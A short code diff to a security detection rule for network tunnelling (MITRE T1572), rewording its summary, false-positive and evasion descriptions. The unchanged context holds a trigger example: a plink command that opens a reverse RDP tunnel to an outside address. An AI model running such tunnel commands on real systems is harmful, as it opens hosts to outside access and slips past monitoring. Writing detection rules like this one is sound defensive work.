@@ -10,9 +10,9 @@ export const tunnel = defineJudgement<Payload>({
   field: 'Destination',
   weight: 'high',
   techniques: techniques('T1572'),
-  summary: 'The payload opens a tunnel, by which others reach the host or what lies behind it.',
-  howWrong: 'Administrators forward ports for support, and developers show what they work on.',
-  evades: 'Takes a tool that no list has, renames it, or forwards by a script.',
+  summary: 'The payload opens a tunnel, through which others reach the host or what is behind it.',
+  howWrong: 'Administrators forward ports for support, and developers share what they work on.',
+  evades: 'Uses a tool that is on no list, renames it, or forwards with a script.',
   examples: {
     fires: [
       'C:\\Tools\\plink.exe -N -R 3389:127.0.0.1:3389 u@192.0.2.7',
